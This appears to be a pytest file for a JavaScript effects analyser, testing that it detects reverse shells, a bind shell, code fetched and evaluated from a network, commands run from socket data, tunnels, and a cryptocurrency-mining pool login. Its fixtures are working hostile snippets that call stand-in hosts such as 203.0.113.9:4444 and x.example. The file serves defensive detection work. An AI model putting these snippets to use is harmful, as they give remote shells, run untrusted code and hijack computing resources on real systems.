"""Sockets, shells tied to them, requests, code from elsewhere, the mining protocol."""

# ruff: noqa: E501  (code under test is read more easily whole)

from __future__ import annotations

import pytest

from tests.read.javascript.readings import effects_of

REVERSE = {
    "piped": """
        const net = require("net"), cp = require("child_process");
        const sh = cp.spawn("/bin/sh", ["-i"]);
        const client = new net.Socket();
        client.connect(4444, "203.0.113.9", () => { client.pipe(sh.stdin); sh.stdout.pipe(client); sh.stderr.pipe(client); });
    """,
    "inside a function": """
        (function () {
          var require = global.require || global.process.mainModule.constructor._load;
          if (!require) return;
          var c = require("net").connect({host: "203.0.113.9", port: 4444}, function () {
            var p = require("child_process").spawn("bash", []);
            c.pipe(p.stdin); p.stdout.pipe(c);
          });
        })();
    """,
    "stdio": """
        const s = require("net").createConnection({port: 4444, host: "203.0.113.9"});
        s.on("connect", () => require("child_process").spawn("sh", [], {stdio: [s, s, s]}));
    """,
    "tls": """
        const s = require("tls").connect(4444, "203.0.113.9", {rejectUnauthorized: false}, () => {
          const sh = require("child_process").spawn("/bin/bash");
          s.pipe(sh.stdin); sh.stdout.pipe(s);
        });
    """,
}


@pytest.mark.parametrize("code", REVERSE.values(), ids=REVERSE.keys())
def test_reverse_shells(code: str) -> None:
    """A shell whose streams are a socket's is tied to it."""
    lines = effects_of(code)
    assert "net.connect tcp 203.0.113.9 4444" in lines
    assert "process.stdio socket 203.0.113.9 4444" in lines


def test_bind_shell() -> None:
    """A server that gives each caller a shell."""
    lines = effects_of(
        'require("net").createServer(c => { const s = require("child_process").spawn("sh"); c.pipe(s.stdin); '
        's.stdout.pipe(c) }).listen(4444, "0.0.0.0")'
    )
    assert "net.listen tcp 0.0.0.0 4444" in lines
    assert "process.stdio socket 0.0.0.0 4444" in lines


FETCHED = {
    "fetch and eval": 'fetch("https://x.example/a.js").then(r => r.text()).then(eval)',
    "await": '(async () => { const r = await fetch("https://x.example/a.js"); eval(await r.text()) })()',
    "chunks": """
        require("https").get("https://x.example/a.js", res => {
          let d = ""; res.on("data", c => d += c); res.on("end", () => eval(d));
        });
    """,
    "chunks in a list": """
        require("https").get("https://x.example/a.js", res => {
          const all = []; res.on("data", c => all.push(c)); res.on("end", () => new Function(Buffer.concat(all).toString())());
        });
    """,
    "axios": 'const a = require("axios"); a.get("https://x.example/a.js").then(({ data }) => require("vm").runInThisContext(data))',
    "decoded": 'fetch("https://x.example/a.js").then(r => r.text()).then(t => eval(atob(t)))',
    "request": 'require("request")("https://x.example/a.js", (e, r, body) => eval(body))',
}


@pytest.mark.parametrize("code", FETCHED.values(), ids=FETCHED.keys())
def test_fetched_code(code: str) -> None:
    """Code from an answer says where it comes from."""
    assert "code.fetch https://x.example/a.js javascript" in effects_of(code)


def test_fetched_commands_and_files() -> None:
    """Commands from an answer, and files with an answer in them, likewise."""
    lines = effects_of('fetch("https://x.example/c").then(r => r.text()).then(c => require("child_process").exec(c))')
    assert "code.fetch https://x.example/c bash" in lines
    lines = effects_of(
        'const fs = require("fs"); require("https").get("https://x.example/i.sh", r => { r.pipe(fs.createWriteStream("/tmp/i")); '
        'require("child_process").execSync("sh /tmp/i") })'
    )
    assert "code.fetch https://x.example/i.sh bash" in lines


def test_commands_from_a_socket() -> None:
    """What a socket sends is run: code from the network."""
    lines = effects_of(
        'const s = require("net").connect(4444, "203.0.113.9"); s.on("data", d => require("child_process").exec(d.toString()))'
    )
    assert "code.fetch tcp://203.0.113.9:4444 bash" in lines


def test_code_from_an_argument_is_listed() -> None:
    """A command that the caller gives is said to be that."""
    assert effects_of("eval(process.argv[2])") == ["code.load javascript argument"]


@pytest.mark.parametrize(
    ("code", "expected"),
    [
        (
            'require("http").request({hostname: "h.example", port: 81, path: "/p", method: "POST"})',
            "http.request POST http://h.example:81/p",
        ),
        ('require("axios").post("https://h.example/p", {})', "http.request POST https://h.example/p"),
        ('require("axios")({url: "https://h.example/p", method: "put"})', "http.request PUT https://h.example/p"),
        ('new WebSocket("wss://pool.example:443/x")', "http.request GET wss://pool.example:443/x"),
        ('require("http").createServer((q, s) => s.end("x")).listen(8080)', "net.listen tcp 0.0.0.0 8080"),
        ('require("dns").lookup("h.example", () => {})', "dns.query h.example"),
        ('require("ngrok").connect({proto: "tcp", addr: 22})', "ngrok tcp 22"),
        ('require("localtunnel")({port: 8080})', "lt --port 8080"),
        (
            'new (require("ssh2").Client)().connect({host: "h.example", username: "u", port: 22})',
            "ssh.open u h.example 22",
        ),
    ],
)
def test_other_connections(code: str, expected: str) -> None:
    """Requests, listeners, lookups and tunnels are effects."""
    assert expected in effects_of(code)


def test_mining_protocol() -> None:
    """A miner's login is told by what is written to the socket."""
    lines = effects_of(
        """
        const c = require("net").createConnection(3333, "pool.example");
        c.write(JSON.stringify({id: 1, method: "mining.subscribe", params: ["agent/1"]}) + "\\n");
        c.write(JSON.stringify({id: 2, method: "login", params: {login: "WALLET", pass: "x", agent: "agent/1"}}) + "\\n");
        """
    )
    assert "stratum.subscribe pool.example 3333 agent/1" in lines
    assert "stratum.login pool.example 3333 WALLET agent/1" in lines


def test_padding_hides_no_mining_protocol() -> None:
    """However long the message is."""
    lines = effects_of(
        """
        const c = require("net").createConnection(3333, "pool.example");
        c.write('{"id":1,"method":"mining.subscribe","params":["agent/1"],"pad":"' + "x".repeat(80000) + '"}\\n');
        """
    )
    assert "stratum.subscribe pool.example 3333 agent/1" in lines
